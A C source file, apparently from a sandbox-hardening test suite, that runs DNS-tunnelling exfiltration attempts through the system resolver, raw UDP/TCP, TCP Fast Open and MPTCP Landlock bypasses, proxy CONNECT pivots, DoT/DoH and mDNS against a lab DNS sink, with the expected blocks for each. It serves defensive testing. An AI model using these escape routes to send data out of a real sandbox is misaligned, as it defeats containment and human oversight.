/* dns.c - B3, DNS tunnelling: put the marker in a DNS question that reaches
 * a resolver the attacker reads (the DNS sink records every question), by
 * every route a sandboxed program has: the system resolver, explicit UDP and
 * TCP, TCP variants Landlock does not see, the proxy (as a pivot and as a
 * resolver), services on the supervisor's side, multicast. */
#include <arpa/inet.h>
#include <arpa/nameser.h>
#include <errno.h>
#include <ifaddrs.h>
#include <netdb.h>
#include <netinet/in.h>
#include <resolv.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "attack.h"
#include "udpdns.h"

#ifndef IPPROTO_MPTCP
#define IPPROTO_MPTCP 262
#endif
#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif

/* ---- the DNS wire format (RFC 1035), just what a question needs ---- */

#define DNS_MAX 512

/* "<marker>.<zone>" */
static void qname(const struct attack_env *env, const char *zone, char *buf, size_t len)
{
	snprintf(buf, len, "%s.%s", env->marker, zone);
}

/* A standard query (RD set) for name, type A, class IN. Returns its length
 * or 0 if the name does not fit. */
static size_t dns_query(uint8_t *buf, size_t cap, const char *name, uint16_t id)
{
	size_t n = 12;
	const char *p = name;

	if (cap < 12 + strlen(name) + 2 + 4)
		return 0;
	memset(buf, 0, 12);
	buf[0] = (uint8_t)(id >> 8);
	buf[1] = (uint8_t)id;
	buf[2] = 0x01; /* RD */
	buf[5] = 1;    /* QDCOUNT */
	while (*p) {
		const char *dot = strchr(p, '.');
		size_t l = dot ? (size_t)(dot - p) : strlen(p);
		if (l == 0 || l > 63)
			return 0;
		buf[n++] = (uint8_t)l;
		memcpy(buf + n, p, l);
		n += l;
		p += l + (dot ? 1 : 0);
	}
	buf[n++] = 0;
	buf[n++] = 0;
	buf[n++] = 1; /* QTYPE A */
	buf[n++] = 0;
	buf[n++] = 1; /* QCLASS IN */
	return n;
}

/* The question for <marker>.<zone> into buf; 0 (noted) if it does not fit. */
static size_t marker_query(const struct attack_env *env, struct attack_log *log, const char *zone,
			   uint16_t id, uint8_t *buf, size_t cap, char *name, size_t namelen)
{
	size_t n;
	qname(env, zone, name, namelen);
	n = dns_query(buf, cap, name, id);
	if (!n)
		attack_note(log, "%s does not fit a DNS question (labels of 1-63 bytes)", name);
	return n;
}

static const char *rcode_name(int rc)
{
	static const char *const names[] = {"NOERROR",	"FORMERR", "SERVFAIL",
					    "NXDOMAIN", "NOTIMP",  "REFUSED"};
	return rc >= 0 && rc < 6 ? names[rc] : "rcode?";
}

/* Describe an answer: a reply to our id proves a resolver read the name. */
static bool dns_reply_note(struct attack_log *log, const uint8_t *buf, ssize_t n, uint16_t id)
{
	if (n < 12) {
		attack_note(log, "short DNS reply (%zd bytes)", n);
		return false;
	}
	attack_note(log, "DNS reply id 0x%04x%s, %s, %u answer(s)", buf[0] << 8 | buf[1],
		    (buf[0] << 8 | buf[1]) == id ? "" : " (not ours)", rcode_name(buf[3] & 0xf),
		    buf[6] << 8 | buf[7]);
	return (buf[0] << 8 | buf[1]) == id && (buf[2] & 0x80);
}

/* A framed query (2-byte length, RFC 7766) on a connected stream, then its
 * answer. Returns a claim. */
static int dns_over_stream(const struct attack_env *env, struct attack_log *log, int fd,
			   const char *zone, uint16_t id)
{
	uint8_t q[DNS_MAX + 2], a[DNS_MAX + 2];
	char name[128];
	size_t n;
	ssize_t r;
	int err;

	n = marker_query(env, log, zone, id, q + 2, sizeof(q) - 2, name, sizeof(name));
	if (!n)
		return CLAIM_UNSURE;
	q[0] = (uint8_t)(n >> 8);
	q[1] = (uint8_t)n;
	r = send(fd, q, n + 2, MSG_NOSIGNAL);
	err = errno;
	attack_step(log, "send", r, err, "DNS query for %s, length-prefixed (%zu bytes)", name,
		    n + 2);
	if (r < 0)
		return CLAIM_BLOCKED;
	r = recv(fd, a, sizeof(a), 0);
	err = errno;
	attack_step(log, "recv", r, err, "DNS answer");
	if (r > 2 && dns_reply_note(log, a + 2, r - 2, id))
		return CLAIM_ESCAPED;
	return CLAIM_UNSURE;
}

/* A query for <marker>.<zone> in one datagram to host:port, and its answer. */
static int dns_over_udp(const struct attack_env *env, struct attack_log *log, const char *host,
			uint16_t port, const char *zone, uint16_t id, int wait_ms)
{
	uint8_t q[DNS_MAX], a[DNS_MAX];
	char name[128];
	size_t n;
	ssize_t r;
	int fd, err;
	bool v6 = strchr(host, ':') != NULL;

	fd = ud_socket(log, v6 ? AF_INET6 : AF_INET, SOCK_DGRAM, 0,
		       v6 ? "AF_INET6, SOCK_DGRAM, 0" : "AF_INET, SOCK_DGRAM, 0");
	if (fd < 0)
		return CLAIM_BLOCKED;
	ud_timeouts(log, fd, wait_ms);
	n = marker_query(env, log, zone, id, q, sizeof(q), name, sizeof(name));
	if (!n) {
		close(fd);
		return CLAIM_UNSURE;
	}
	r = ud_sendto(log, fd, q, n, 0, host, port, name);
	if (r < 0) {
		close(fd);
		return CLAIM_BLOCKED;
	}
	r = recv(fd, a, sizeof(a), 0);
	err = errno;
	attack_step(log, "recv", r, err, "DNS answer (%d ms)", wait_ms);
	close(fd);
	if (r > 0 && dns_reply_note(log, a, r, id))
		return CLAIM_ESCAPED;
	return CLAIM_UNSURE;
}

/* socket(family of host, SOCK_STREAM, proto) and a bounded connect. */
static int stream_to(struct attack_log *log, const char *host, uint16_t port, int proto,
		     const char *desc, int timeout_ms)
{
	struct sockaddr_storage ss;
	socklen_t sl = attack_sockaddr(host, port, &ss);
	char a[96];
	int fd, r, err;

	fd = ud_socket(log, ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, proto, desc);
	if (fd < 0)
		return -1;
	r = attack_connect_timeout(fd, (struct sockaddr *)&ss, sl, 2000);
	err = errno;
	attack_step(log, "connect", r, err, "%s",
		    ud_addr_str((struct sockaddr *)&ss, a, sizeof(a)));
	if (r < 0) {
		close(fd);
		return -1;
	}
	ud_timeouts(log, fd, timeout_ms);
	return fd;
}

/* ---- D01: the system resolver ---- */

static int d01_getaddrinfo(const struct attack_env *env, struct attack_log *log)
{
	struct addrinfo hints = {.ai_family = AF_UNSPEC, .ai_socktype = SOCK_STREAM}, *res = NULL;
	char name[128];
	int r, err;

	qname(env, "exfil.test", name, sizeof(name));
	attack_note(log, "glibc reads /etc/resolv.conf (the lab's: the DNS sink, timeout:1 "
			 "attempts:1) and sends A and AAAA over UDP; it has no TCP fallback "
			 "unless 'options use-vc' or a truncated answer (D03.usevc)");
	errno = 0;
	r = getaddrinfo(name, "443", &hints, &res);
	err = errno;
	attack_step(log, "getaddrinfo", r ? -1 : 0, err, "%s: %s (errno after the call: %s)", name,
		    r ? gai_strerror(r) : "resolved", err ? strerror(err) : "0");
	if (res)
		freeaddrinfo(res);
	/* glibc's own socket() is invisible here: make the same call to show
	 * what it got (no traffic: the socket is closed unused). */
	{
		int fd = ud_socket(log, AF_INET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0,
				   "AF_INET, SOCK_DGRAM|SOCK_NONBLOCK|SOCK_CLOEXEC, 0: the socket "
				   "glibc's resolver opens (diagnostic, unused)");
		if (fd >= 0)
			close(fd);
	}
	/* NXDOMAIN (EAI_NONAME) means a resolver read the question. */
	return r == EAI_NONAME || r == 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

/* ---- D02: explicit UDP/53 ---- */

static int d02_udp_v4(const struct attack_env *env, struct attack_log *log)
{
	return dns_over_udp(env, log, env->dns_v4, 53, "exfil.test", 0xd002, 1000);
}

static int d02_udp_v6(const struct attack_env *env, struct attack_log *log)
{
	return dns_over_udp(env, log, env->dns_v6, 53, "exfil.test", 0xd026, 1000);
}

/* ---- D03: DNS over TCP/53 ---- */

static int d03_tcp(const struct attack_env *env, struct attack_log *log)
{
	int fd = stream_to(log, env->dns_v4, 53, 0, "AF_INET, SOCK_STREAM, 0", 2000);
	int claim;
	if (fd < 0)
		return CLAIM_BLOCKED;
	claim = dns_over_stream(env, log, fd, "exfil.test", 0xd003);
	close(fd);
	return claim;
}

/* glibc's own TCP path: RES_USEVC is 'options use-vc'. */
static int d03_usevc(const struct attack_env *env, struct attack_log *log)
{
	unsigned char ans[DNS_MAX];
	char name[128];
	int r, err;

	r = res_init();
	err = errno;
	attack_step(log, "res_init", r, err, "reads /etc/resolv.conf");
	_res.options |= RES_USEVC;
	qname(env, "exfil.test", name, sizeof(name));
	errno = 0;
	r = res_query(name, ns_c_in, ns_t_a, ans, sizeof(ans));
	err = errno;
	attack_step(log, "res_query", r, err, "%s IN A with RES_USEVC (TCP to the nameserver): %s",
		    name, r >= 0 ? "answer" : hstrerror(h_errno));
	/* HOST_NOT_FOUND is NXDOMAIN: the server read the question. */
	return r >= 0 || h_errno == HOST_NOT_FOUND ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

/* ---- D04: DNS over TCP Fast Open and over MPTCP ---- */

static int d04_tfo(const struct attack_env *env, struct attack_log *log)
{
	uint8_t q[DNS_MAX + 2], a[DNS_MAX + 2];
	char name[128];
	size_t n;
	ssize_t r;
	int fd, err;

	fd = ud_socket(log, AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0, "AF_INET, SOCK_STREAM, 0");
	if (fd < 0)
		return CLAIM_BLOCKED;
	/* Blocking with SO_SNDTIMEO: sendto waits (bounded) for the handshake
	 * and then sends the data, cookie or not. */
	ud_timeouts(log, fd, 2000);
	n = marker_query(env, log, "exfil.test", 0xd004, q + 2, sizeof(q) - 2, name, sizeof(name));
	if (!n) {
		close(fd);
		return CLAIM_UNSURE;
	}
	q[0] = (uint8_t)(n >> 8);
	q[1] = (uint8_t)n;
	r = ud_sendto(log, fd, q, n + 2, MSG_FASTOPEN, env->dns_v4, 53,
		      "MSG_FASTOPEN: connect and data, no connect()");
	if (r < 0) {
		close(fd);
		return CLAIM_BLOCKED;
	}
	r = recv(fd, a, sizeof(a), 0);
	err = errno;
	attack_step(log, "recv", r, err, "DNS answer");
	close(fd);
	return r > 2 && dns_reply_note(log, a + 2, r - 2, 0xd004) ? CLAIM_ESCAPED : CLAIM_UNSURE;
}

static int d04_mptcp(const struct attack_env *env, struct attack_log *log)
{
	int fd = stream_to(log, env->dns_v4, 53, IPPROTO_MPTCP,
			   "AF_INET, SOCK_STREAM, IPPROTO_MPTCP", 2000);
	int claim;
	if (fd < 0)
		return CLAIM_BLOCKED;
	claim = dns_over_stream(env, log, fd, "exfil.test", 0xd044);
	close(fd);
	return claim;
}

/* ---- D05-D07: the proxy ---- */

/* CONNECT host:port through the proxy. Returns the tunnel's fd after a 200,
 * else -1; *status is the HTTP status (0: no answer). */
static int proxy_connect(const struct attack_env *env, struct attack_log *log, const char *host,
			 uint16_t port, int *status)
{
	char req[512], resp[2048], line[160];
	bool v6 = strchr(host, ':') != NULL;
	size_t got = 0;
	ssize_t r;
	int fd, n, err;

	*status = 0;
	fd = stream_to(log, env->proxy_host, env->proxy_port, 0,
		       strchr(env->proxy_host, ':') ? "AF_INET6, SOCK_STREAM, 0 (the proxy)"
						    : "AF_INET, SOCK_STREAM, 0 (the proxy)",
		       3000);
	if (fd < 0)
		return -1;
	n = snprintf(req, sizeof(req), "CONNECT %s%s%s:%u HTTP/1.1\r\nHost: %s%s%s:%u\r\n\r\n",
		     v6 ? "[" : "", host, v6 ? "]" : "", port, v6 ? "[" : "", host, v6 ? "]" : "",
		     port);
	r = send(fd, req, (size_t)n, MSG_NOSIGNAL);
	err = errno;
	attack_step(log, "send", r, err, "CONNECT %s%s%s:%u", v6 ? "[" : "", host, v6 ? "]" : "",
		    port);
	if (r < 0) {
		close(fd);
		return -1;
	}
	/* Read up to the end of the response head (the proxy sends nothing
	 * after a 200 until the upstream does). */
	while (got < sizeof(resp) - 1) {
		r = recv(fd, resp + got, sizeof(resp) - 1 - got, 0);
		err = errno;
		if (r <= 0)
			break;
		got += (size_t)r;
		resp[got] = 0;
		if (strstr(resp, "\r\n\r\n"))
			break;
	}
	resp[got] = 0;
	snprintf(line, sizeof(line), "%.*s", (int)strcspn(resp, "\r\n"), resp);
	attack_step(log, "recv", got ? (long)got : r, err, "proxy answer: %s",
		    got ? line : "(none)");
	if (sscanf(resp, "HTTP/1.%*d %d", status) != 1)
		*status = 0;
	if (*status != 200) {
		close(fd);
		return -1;
	}
	return fd;
}

static int d05_proxy_dns(const struct attack_env *env, struct attack_log *log)
{
	int st, claim, fd = proxy_connect(env, log, env->dns_v4, 53, &st);
	if (fd < 0)
		return CLAIM_BLOCKED;
	claim = dns_over_stream(env, log, fd, "exfil.test", 0xd005);
	close(fd);
	return claim;
}

static int d06_proxy_resolves(const struct attack_env *env, struct attack_log *log)
{
	char name[128];
	int st, fd;

	qname(env, "exfil.test", name, sizeof(name));
	fd = proxy_connect(env, log, name, 443, &st);
	if (fd >= 0)
		close(fd);
	/* 502 (resolve failed: NXDOMAIN) means the proxy asked a resolver;
	 * 403 means it refused before resolving. */
	return st == 502 || st == 200 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

static int d07_dot(const struct attack_env *env, struct attack_log *log)
{
	int st, claim, fd = proxy_connect(env, log, env->dns_v4, 853, &st);
	if (fd < 0)
		return st == 502 ? CLAIM_UNSURE : CLAIM_BLOCKED;
	/* What a DoT client sends after the TLS handshake (in clear here:
	 * the sink speaks no TLS and reads the bytes). */
	claim = dns_over_stream(env, log, fd, "exfil.test", 0xd007);
	close(fd);
	return claim;
}

static int d07_dot_name(const struct attack_env *env, struct attack_log *log)
{
	char name[128];
	int st, fd;

	qname(env, "dot.test", name, sizeof(name));
	fd = proxy_connect(env, log, name, 853, &st);
	if (fd >= 0)
		close(fd);
	return st == 502 || st == 200 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

static int d07_doh(const struct attack_env *env, struct attack_log *log)
{
	uint8_t q[DNS_MAX];
	char head[256], name[128];
	size_t n;
	ssize_t r;
	int st, fd, hl, err;

	fd = proxy_connect(env, log, env->sink_v4, 443, &st);
	if (fd < 0)
		return CLAIM_BLOCKED;
	n = marker_query(env, log, "exfil.test", 0, q, sizeof(q), name, sizeof(name));
	if (!n) {
		close(fd);
		return CLAIM_UNSURE;
	}
	hl = snprintf(head, sizeof(head),
		      "POST /dns-query HTTP/1.1\r\nHost: doh.test\r\nContent-Type: "
		      "application/dns-message\r\nContent-Length: %zu\r\n\r\n",
		      n);
	r = send(fd, head, (size_t)hl, MSG_NOSIGNAL | MSG_MORE);
	err = errno;
	attack_step(log, "send", r, err, "POST /dns-query head (RFC 8484, in clear)");
	if (r > 0) {
		r = send(fd, q, n, MSG_NOSIGNAL);
		err = errno;
		attack_step(log, "send", r, err, "application/dns-message for %s (%zu bytes)", name,
			    n);
	}
	close(fd);
	return r > 0 ? CLAIM_ESCAPED : CLAIM_BLOCKED;
}

/* ---- D09: a resolver on the supervisor's side ---- */

/* The proxy's address and every address of our interfaces (link-local
 * excepted): in platform mode the pod's loopback and eth0, in namespace
 * mode the gateway (the supervisor's end of the veth) and our own. */
static size_t supervisor_side(const struct attack_env *env, struct attack_log *log,
			      char addrs[][INET6_ADDRSTRLEN], size_t cap)
{
	struct ifaddrs *ifa = NULL, *i;
	size_t n = 0;
	int r, err;

	snprintf(addrs[n++], INET6_ADDRSTRLEN, "%s", env->proxy_host);
	r = getifaddrs(&ifa);
	err = errno;
	attack_step(log, "getifaddrs", r, err, "NETLINK_ROUTE dump of our addresses");
	for (i = ifa; i && n < cap; i = i->ifa_next) {
		char a[INET6_ADDRSTRLEN];
		bool dup = false;
		if (!i->ifa_addr)
			continue;
		if (i->ifa_addr->sa_family == AF_INET) {
			inet_ntop(AF_INET, &((struct sockaddr_in *)i->ifa_addr)->sin_addr, a,
				  sizeof(a));
		} else if (i->ifa_addr->sa_family == AF_INET6) {
			const struct in6_addr *s6 =
			    &((struct sockaddr_in6 *)i->ifa_addr)->sin6_addr;
			if (IN6_IS_ADDR_LINKLOCAL(s6))
				continue;
			inet_ntop(AF_INET6, s6, a, sizeof(a));
		} else {
			continue;
		}
		for (size_t k = 0; k < n; k++)
			dup |= strcmp(addrs[k], a) == 0;
		if (!dup)
			snprintf(addrs[n++], INET6_ADDRSTRLEN, "%s", a);
	}
	if (ifa)
		freeifaddrs(ifa);
	return n;
}

static int d09_udp(const struct attack_env *env, struct attack_log *log)
{
	char addrs[8][INET6_ADDRSTRLEN];
	size_t n = supervisor_side(env, log, addrs, 8);
	int best = CLAIM_BLOCKED;

	for (size_t i = 0; i < n; i++) {
		int c =
		    dns_over_udp(env, log, addrs[i], 53, "exfil.test", (uint16_t)(0xd090 + i), 300);
		if (c == CLAIM_ESCAPED || (c == CLAIM_UNSURE && best == CLAIM_BLOCKED))
			best = c;
	}
	return best;
}

static int d09_tcp(const struct attack_env *env, struct attack_log *log)
{
	char addrs[8][INET6_ADDRSTRLEN];
	size_t n = supervisor_side(env, log, addrs, 8);
	int best = CLAIM_BLOCKED;

	for (size_t i = 0; i < n; i++) {
		bool v6 = strchr(addrs[i], ':') != NULL;
		int c, fd = stream_to(log, addrs[i], 53, 0,
				      v6 ? "AF_INET6, SOCK_STREAM, 0" : "AF_INET, SOCK_STREAM, 0",
				      500);
		if (fd < 0)
			continue;
		c = dns_over_stream(env, log, fd, "exfil.test", (uint16_t)(0xd0a0 + i));
		close(fd);
		/* The pod's TCP 53 victim counts the connection itself. */
		if (c == CLAIM_ESCAPED)
			best = CLAIM_ESCAPED;
		else if (best == CLAIM_BLOCKED)
			best = CLAIM_UNSURE;
	}
	return best;
}

/* ---- D10: mDNS ---- */

static int d10_mdns(const struct attack_env *env, struct attack_log *log)
{
	uint8_t q[DNS_MAX];
	char name[128], ifname[IF_NAMESIZE];
	struct in_addr gw;
	struct ip_mreqn mr;
	size_t n;
	ssize_t r;
	int fd, rr, err;

	fd = ud_socket(log, AF_INET, SOCK_DGRAM, 0, "AF_INET, SOCK_DGRAM, 0");
	if (fd < 0)
		return CLAIM_BLOCKED;
	if (ud_default_route(log, ifname, &gw) == 0) {
		memset(&mr, 0, sizeof(mr));
		mr.imr_ifindex = (int)if_nametoindex(ifname);
		rr = setsockopt(fd, IPPROTO_IP, IP_MULTICAST_IF, &mr, sizeof(mr));
		err = errno;
		attack_step(log, "setsockopt", rr, err, "IP_MULTICAST_IF %s (ifindex %d)", ifname,
			    mr.imr_ifindex);
	}
	n = marker_query(env, log, "local", 0 /* mDNS: id 0 */, q, sizeof(q), name, sizeof(name));
	if (!n) {
		close(fd);
		return CLAIM_UNSURE;
	}
	q[2] = 0; /* no RD */
	r = ud_sendto(log, fd, q, n, 0, "224.0.0.251", 5353, name);
	close(fd);
	return r > 0 ? CLAIM_UNSURE : CLAIM_BLOCKED;
}

/* ---- the table ---- */

#define NS_UDP "nftables: meta l4proto udp reject"
#define NS_TCP "nftables: tcp reject (only 10.200.0.1:3128 is accepted)"
#define P_DGRAM "seccomp: socket(AF_INET, SOCK_DGRAM) -> EPERM"
#define NOTIFY_DGRAM "seccomp socket(SOCK_DGRAM) -> EPERM, before any notified sendto"
#define STRICT_ALLOW "seccomp socket allowlist -> EPERM (Landlock UDP too at ABI >= 10)"
#define P_LL "Landlock connect_tcp: 53 is not 3128 -> EACCES"
#define NOTIFY_LL "Landlock connect_tcp; notify pins destinations to the proxy"
#define PROXY_403 "proxy policy: 403 (only allowed.test:443)"

/* clang-format off */
const struct attack attacks_dns[] = {
	{
		.id = "D01",
		.family = FAM_DNS,
		.title = "getaddrinfo of a marker name through the system resolver",
		.tries = "getaddrinfo(\"<marker>.exfil.test\"): glibc sends the question to the "
			 "nameserver of /etc/resolv.conf (the lab's DNS sink, as a pod's "
			 "cluster DNS). The cheapest tunnel there is; a UDP block breaks it.",
		.syscalls = "getaddrinfo(<marker>.exfil.test) -> glibc: socket(AF_INET, "
			    "SOCK_DGRAM|SOCK_NONBLOCK|SOCK_CLOEXEC, 0); connect(dns:53); sendmmsg",
		.refs = "attack-catalog.md B3 D01; navikt/cplt PR #292 (denying SOCK_DGRAM breaks "
			"getaddrinfo)",
		.expect = {NS_UDP " (the resolver is unreachable)",
			   "seccomp: glibc's socket(AF_INET, SOCK_DGRAM) -> EPERM", NOTIFY_DGRAM,
			   STRICT_ALLOW},
		.timeout_ms = 8000,
		.run = d01_getaddrinfo,
	},
	{
		.id = "D02",
		.family = FAM_DNS,
		.title = "Hand-built DNS query over UDP/53 to a resolver (IPv4)",
		.tries = "The question for <marker>.exfil.test in one datagram to the resolver "
			 "itself, bypassing resolv.conf (an 8.8.8.8 of the attacker's choice).",
		.syscalls = "socket(AF_INET, SOCK_DGRAM, 0); sendto(dns:53, query); recv(1 s)",
		.refs = "attack-catalog.md B3 D02",
		.expect = {NS_UDP, P_DGRAM, NOTIFY_DGRAM, STRICT_ALLOW},
		.run = d02_udp_v4,
	},
	{
		.id = "D02.v6",
		.family = FAM_DNS,
		.title = "Hand-built DNS query over UDP/53 to a resolver (IPv6)",
		.tries = "The same to the resolver's IPv6 address.",
		.syscalls = "socket(AF_INET6, SOCK_DGRAM, 0); sendto([dns6]:53, query); recv(1 s)",
		.refs = "attack-catalog.md B3 D02",
		.expect = {"no IPv6 route in the sandbox netns (nftables inet rejects v6 udp too)",
			   "seccomp: socket(AF_INET6, SOCK_DGRAM) -> EPERM", NOTIFY_DGRAM,
			   STRICT_ALLOW},
		.run = d02_udp_v6,
	},
	{
		.id = "D03",
		.family = FAM_DNS,
		.title = "DNS over TCP/53 to a resolver",
		.tries = "The question with a 2-byte length prefix over a TCP connection to "
			 "dns:53: a UDP block alone does not stop DNS.",
		.syscalls = "socket(AF_INET, SOCK_STREAM, 0); connect(dns:53); send(len + query); "
			    "recv",
		.refs = "attack-catalog.md B3 D03; RFC 7766",
		.expect = {NS_TCP, P_LL, NOTIFY_LL, NOTIFY_LL},
		.run = d03_tcp,
	},
	{
		.id = "D03.usevc",
		.family = FAM_DNS,
		.title = "glibc's resolver over TCP (RES_USEVC, 'options use-vc')",
		.tries = "res_query with RES_USEVC: what a program or resolv.conf that asks for "
			 "TCP gets from the system resolver when UDP is blocked.",
		.syscalls = "res_init; res_query(<marker>.exfil.test, IN, A) -> glibc: "
			    "socket(AF_INET, SOCK_STREAM); connect(dns:53); writev; read",
		.refs = "attack-catalog.md B3 D03 (res_init + options use-vc)",
		.expect = {NS_TCP, P_LL, NOTIFY_LL, NOTIFY_LL},
		.timeout_ms = 8000,
		.run = d03_usevc,
	},
	{
		.id = "D04",
		.family = FAM_DNS,
		.title = "DNS over TCP Fast Open (sendto MSG_FASTOPEN to dns:53)",
		.tries = "sendto(MSG_FASTOPEN) opens the connection without connect(): Landlock's "
			 "socket_connect hook never runs on kernels without 33cb713db016, so "
			 "connect_tcp's port rule does not apply.",
		.syscalls = "socket(AF_INET, SOCK_STREAM, 0); sendto(len + query, MSG_FASTOPEN, "
			    "dns:53); recv",
		.needs = {.probe = {"entry_points.tcp_fastopen_client"},
			  .sysctl = "net/ipv4/tcp_fastopen",
			  .sysctl_mask = 1},
		.refs = "attack-catalog.md §0.3, B3 D04, B1 T06; landlock-lsm/linux#41; commit "
			"33cb713db016 (landlock-7.2-rc4)",
		.expect = {NS_TCP,
			   "none before 33cb713db016: MSG_FASTOPEN skips Landlock's connect hook",
			   "notify on sendto pins the destination to the proxy",
			   "seccomp refuses MSG_FASTOPEN"},
		.run = d04_tfo,
	},
	{
		.id = "D04.mptcp",
		.family = FAM_DNS,
		.title = "DNS over MPTCP to dns:53",
		.tries = "socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP): not sk_is_tcp(), so "
			 "Landlock's TCP rights ignore it (erratum 1); on the wire it is TCP.",
		.syscalls = "socket(AF_INET, SOCK_STREAM, IPPROTO_MPTCP); connect(dns:53); "
			    "send(len + query); recv",
		.needs = {.probe = {"protocols.mptcp"}, .sysctl = "net/mptcp/enabled", .sysctl_mask = 1},
		.refs = "attack-catalog.md §0.2, B3 D04, B1 T07; landlock-lsm/linux#54; "
			"go-landlock#50; Landlock erratum 1 (abi-4.h)",
		.expect = {NS_TCP, "none: MPTCP is outside Landlock's TCP rights (erratum 1)",
			   "notify on connect pins the destination to the proxy",
			   "seccomp socket allowlist refuses IPPROTO_MPTCP"},
		.run = d04_mptcp,
	},
	{
		.id = "D05",
		.family = FAM_DNS,
		.title = "CONNECT to the resolver's port 53 through the proxy",
		.tries = "CONNECT 198.51.100.53:53, then DNS over TCP inside the tunnel: the proxy "
			 "as a pivot to a resolver.",
		.syscalls = "connect(proxy); send(CONNECT dns:53); recv(status); send(len + query); "
			    "recv",
		.refs = "attack-catalog.md B3 D05; docs/proxy.md",
		.expect = {PROXY_403, PROXY_403, PROXY_403, PROXY_403},
		.timeout_ms = 8000,
		.run = d05_proxy_dns,
	},
	{
		.id = "D06",
		.family = FAM_DNS,
		.title = "A denied name the proxy might resolve anyway",
		.tries = "CONNECT <marker>.exfil.test:443: a proxy that resolves before (or "
			 "while) checking policy sends the marker to its resolver even though "
			 "it denies the request (the reference's issue #1169).",
		.syscalls = "connect(proxy); send(CONNECT <marker>.exfil.test:443); recv(status)",
		.refs = "attack-catalog.md B3 D06; openshell-reference.md §5 (#1169, fixed by PR "
			"#1329 9a7c0df00); docs/proxy.md 'Request handling' step 3",
		.expect = {"proxy: policy checked before resolving (403, no query)",
			   "proxy: policy checked before resolving (403, no query)",
			   "proxy: policy checked before resolving (403, no query)",
			   "proxy: policy checked before resolving (403, no query)"},
		.timeout_ms = 8000,
		.run = d06_proxy_resolves,
	},
	{
		.id = "D07.dot",
		.family = FAM_DNS,
		.title = "DNS over TLS through the proxy (CONNECT resolver:853)",
		.tries = "CONNECT 198.51.100.53:853, then the framed query a DoT client sends: "
			 "the lab counts any tunnel the proxy opens to a non-allowlisted "
			 "destination as an escape (nothing listens on 853).",
		.syscalls = "connect(proxy); send(CONNECT dns:853); recv(status); [send(len + "
			    "query)]",
		.refs = "attack-catalog.md B3 D07; RFC 7858",
		.expect = {PROXY_403, PROXY_403, PROXY_403, PROXY_403},
		.timeout_ms = 8000,
		.run = d07_dot,
	},
	{
		.id = "D07.dot-name",
		.family = FAM_DNS,
		.title = "DNS over TLS through the proxy by name (CONNECT <marker>.dot.test:853)",
		.tries = "A DoT client names its resolver: the proxy resolves the (marker-"
			 "carrying) name if it lets the request through, and the DNS sink sees "
			 "the question.",
		.syscalls = "connect(proxy); send(CONNECT <marker>.dot.test:853); recv(status)",
		.refs = "attack-catalog.md B3 D07, D06; RFC 7858",
		.expect = {PROXY_403 ", before resolving", PROXY_403 ", before resolving",
			   PROXY_403 ", before resolving", PROXY_403 ", before resolving"},
		.timeout_ms = 8000,
		.run = d07_dot_name,
	},
	{
		.id = "D07.doh",
		.family = FAM_DNS,
		.title = "DNS over HTTPS through the proxy (CONNECT attacker:443, POST /dns-query)",
		.tries = "CONNECT sink:443 (the attacker's DoH resolver) and POST an "
			 "application/dns-message carrying <marker>.exfil.test: DoH looks like "
			 "any HTTPS, so only the allowlist stops it.",
		.syscalls = "connect(proxy); send(CONNECT sink:443); recv(status); send(POST "
			    "/dns-query + query)",
		.refs = "attack-catalog.md B3 D07; RFC 8484",
		.expect = {PROXY_403, PROXY_403, PROXY_403, PROXY_403},
		.timeout_ms = 8000,
		.run = d07_doh,
	},
	{
		.id = "D09",
		.family = FAM_DNS,
		.title = "UDP/53 to a resolver on the supervisor's side",
		.tries = "A query to port 53 of the proxy's address and of our own addresses "
			 "(platform: 127.0.0.1, ::1, the pod's 10.88.0.2; namespace: the "
			 "gateway 10.200.0.1): a node-local or pod resolver would forward it.",
		.syscalls = "getifaddrs; for each address: socket(SOCK_DGRAM); sendto(addr:53, "
			    "query); recv(300 ms)",
		.refs = "attack-catalog.md B3 D09, B1 T05",
		.expect = {"nftables: udp reject (the gateway only accepts tcp 3128)", P_DGRAM,
			   NOTIFY_DGRAM, STRICT_ALLOW},
		.timeout_ms = 10000,
		.run = d09_udp,
	},
	{
		.id = "D09.tcp",
		.family = FAM_DNS,
		.title = "TCP/53 to a resolver on the supervisor's side",
		.tries = "DNS over TCP to port 53 of the same addresses; the pod's TCP 53 victim "
			 "counts any connection.",
		.syscalls = "getifaddrs; for each address: socket(SOCK_STREAM); connect(addr:53); "
			    "send(len + query); recv",
		.refs = "attack-catalog.md B3 D09, B1 T05",
		.expect = {NS_TCP, P_LL, NOTIFY_LL, NOTIFY_LL},
		.timeout_ms = 10000,
		.run = d09_tcp,
	},
	{
		.id = "D10",
		.family = FAM_DNS,
		.title = "mDNS question on the link (224.0.0.251:5353)",
		.tries = "A multicast DNS question for <marker>.local: every mDNS responder on the "
			 "pod's link reads it; no route and no resolver needed.",
		.syscalls = "socket(AF_INET, SOCK_DGRAM, 0); setsockopt(IP_MULTICAST_IF); "
			    "sendto(224.0.0.251:5353, query)",
		.refs = "attack-catalog.md B3 D10; RFC 6762",
		.expect = {NS_UDP, P_DGRAM, NOTIFY_DGRAM, STRICT_ALLOW},
		.run = d10_mdns,
	},
	{0},
};
/* clang-format on */
